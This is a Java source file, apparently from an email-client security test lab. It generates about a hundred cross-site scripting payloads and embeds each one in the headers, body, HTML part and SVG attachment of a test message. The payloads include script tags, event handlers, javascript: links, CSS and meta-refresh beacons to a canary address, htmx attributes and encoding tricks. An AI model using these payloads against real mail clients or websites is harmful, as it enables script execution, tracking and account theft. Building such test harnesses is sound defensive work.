package org.mailweir.lab;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/**
 * Messages that try to run a script in the reader's browser, or to make it ask for something. Each
 * payload stands in every place of its message that a page shows.
 */
final class XssPayloads {

  /** %1$s is a call that would be noticed, %2$s an address that would be asked. */
  private static final List<String> TEMPLATES =
      List.of(
          "<script>%1$s</script>",
          "<SCRIPT SRC=%2$s></SCRIPT>",
          "<script src=\"%2$s\"></script>",
          "<img src=x onerror=%1$s>",
          "<img src=%2$s>",
          "<IMG SRC=\"javascript:%1$s\">",
          "<img src='%2$s' onload='%1$s'>",
          "<img srcset='%2$s 1x, %2$s?2 2x'>",
          "<img src=x onerror=\"&#97;lert(1)\">",
          "<img/src=`%2$s`onerror=%1$s>",
          "<svg onload=%1$s>",
          "<svg><script>%1$s</script></svg>",
          "<svg><script href='%2$s'/></svg>",
          "<svg><animate onbegin=%1$s attributeName=x dur=1s>",
          "<svg><image href='%2$s'/></svg>",
          "<svg><use href='%2$s#x'/></svg>",
          "<svg><a xlink:href='javascript:%1$s'><text x=20 y=20>go</text></a></svg>",
          "<svg/onload=%1$s//",
          "<svg><style>@import '%2$s';</style></svg>",
          "<svg><foreignObject><iframe src='%2$s'></iframe></foreignObject></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=%1$s>",
          "<math href='javascript:%1$s'>x</math>",
          "<body onload=%1$s>",
          "<body background='%2$s'>",
          "<iframe src='javascript:%1$s'></iframe>",
          "<iframe src='%2$s'></iframe>",
          "<iframe srcdoc='<script>%1$s</script>'></iframe>",
          "<iframe srcdoc=\"<img src=%2$s>\"></iframe>",
          "<object data='%2$s'></object>",
          "<object data='javascript:%1$s'></object>",
          "<embed src='%2$s'>",
          "<embed src='javascript:%1$s'>",
          "<link rel=stylesheet href='%2$s'>",
          "<link rel=prefetch href='%2$s'>",
          "<link rel=dns-prefetch href='%2$s'>",
          "<link rel=icon href='%2$s'>",
          "<style>@import '%2$s';</style>",
          "<style>body{background:url(%2$s)}</style>",
          "<style>@font-face{font-family:x;src:url(%2$s)}*{font-family:x}</style>",
          "<style>li{list-style-image:url('%2$s')}</style><ul><li>x</ul>",
          "<div style=\"background:url('%2$s')\">x</div>",
          "<div style=\"background-image:url(%2$s)\">x</div>",
          "<div style=\"background:\\75rl(%2$s)\">x</div>",
          "<div style=\"width:expression(%1$s)\">x</div>",
          "<div style=\"-moz-binding:url(%2$s)\">x</div>",
          "<div style=\"content:url(%2$s)\">x</div>",
          "<div style=\"color:red;background:image-set('%2$s' 1x)\">x</div>",
          "<div style=\"position:fixed;top:0;left:0;width:100%%;height:100%%\">cover</div>",
          "<table background='%2$s'><tr><td background='%2$s'>x</td></tr></table>",
          "<meta http-equiv=refresh content='0;url=%2$s'>",
          "<meta http-equiv=refresh content='0;url=javascript:%1$s'>",
          "<meta http-equiv=Set-Cookie content='mailweir=stolen'>",
          "<meta http-equiv=Content-Security-Policy content='script-src *'>",
          "<base href='%2$s/'><img src=x>",
          "<form action='%2$s'><button>press</button></form><script>document.forms[0].submit()</script>",
          "<form><button formaction='javascript:%1$s'>press</button></form>",
          "<input autofocus onfocus=%1$s>",
          "<input type=image src='%2$s'>",
          "<select autofocus onfocus=%1$s><option>x</select>",
          "<textarea autofocus onfocus=%1$s>x</textarea>",
          "<keygen autofocus onfocus=%1$s>",
          "<video src='%2$s' onerror=%1$s></video>",
          "<video poster='%2$s'></video>",
          "<video><source onerror=%1$s src='%2$s'></video>",
          "<audio src='%2$s' onerror=%1$s autoplay></audio>",
          "<details open ontoggle=%1$s>x</details>",
          "<marquee onstart=%1$s>x</marquee>",
          "<a href='javascript:%1$s'>press</a>",
          "<a href='JaVaScRiPt:%1$s'>press</a>",
          "<a href=' &#14; javascript:%1$s'>press</a>",
          "<a href='java\tscript:%1$s'>press</a>",
          "<a href='data:text/html,<script>%1$s</script>'>press</a>",
          "<a href='vbscript:%1$s'>press</a>",
          "<a ping='%2$s' href='#'>press</a>",
          "<a href='%2$s' onmouseover=%1$s style='font-size:99px'>press</a>",
          "\"><script>%1$s</script>",
          "'><script>%1$s</script>",
          "\" onmouseover=%1$s x=\"",
          "' autofocus onfocus=%1$s x='",
          "</title><script>%1$s</script>",
          "</textarea><script>%1$s</script>",
          "</style><script>%1$s</script>",
          "</script><script>%1$s</script>",
          "--><script>%1$s</script><!--",
          "<!--<img src=\"--><img src=x onerror=%1$s//\">",
          "]]><script>%1$s</script>",
          "<![CDATA[<script>%1$s</script>]]>",
          "<noscript><p title=\"</noscript><img src=x onerror=%1$s>\">",
          "<template><script>%1$s</script></template>",
          "<xss onafterscriptexecute=%1$s><script>1</script>",
          "<x contenteditable onbeforeinput=%1$s>x",
          "<p onclick=%1$s onpointerrawupdate=%1$s>x</p>",
          "<div hx-get='%2$s' hx-trigger=load>x</div>",
          "<div data-hx-get='%2$s' data-hx-trigger=load>x</div>",
          "<div hx-on:htmx:load='%1$s' hx-trigger=load>x</div>",
          "<span hx-vals='js:{x:%1$s}' hx-post='%2$s' hx-trigger=load>x</span>",
          "${%1$s} {{%1$s}} <%%=%1$s%%>",
          "@`<script>%1$s</script>`",
          "+ADw-script+AD4-%1$s+ADw-/script+AD4-",
          "\u2028<script>%1$s</script>\u202E<img src=%2$s>");

  private XssPayloads() {}

  /**
   * @param canary an address that notices who asks
   */
  static List<String> all(String canary) {
    List<String> all = new ArrayList<>();
    for (String template : TEMPLATES) {
      all.add(template.formatted("alert(1)", canary + "/" + all.size()));
    }
    return all;
  }

  /** A message that has it in its fields, its text, its HTML, its links and its files. */
  static Letter letter(String payload, int number) {
    String word = "=?utf-8?b?" + base64(payload) + "?=";
    String file = payload.replaceAll("[\"\\\\\r\n]", "'");
    String text =
        """
        From: %1$s <x%5$d@sender.example>
        To: ben@example.com
        Subject: %1$s
        Reply-To: %1$s <y@sender.example>
        Date: Sat, 21 Nov 2026 10:00:00 +0000
        Message-ID: <%5$d@sender.example>
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="b"

        --b
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: base64

        %2$s
        --b
        Content-Type: text/html; charset=utf-8
        Content-Transfer-Encoding: base64

        %3$s
        --b
        Content-Type: image/svg+xml
        Content-Transfer-Encoding: base64
        Content-Disposition: attachment; filename="%4$s.svg"

        %6$s
        --b--
        """
            .formatted(
                word,
                base64(payload),
                base64("<html><body><p>before</p>" + payload + "<p>after</p></body></html>"),
                file,
                number,
                base64("<svg xmlns='http://www.w3.org/2000/svg'>" + payload + "</svg>"));
    return new Letter(
        "x" + number + "@sender.example",
        List.of("ben@example.com"),
        text.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8));
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }
}
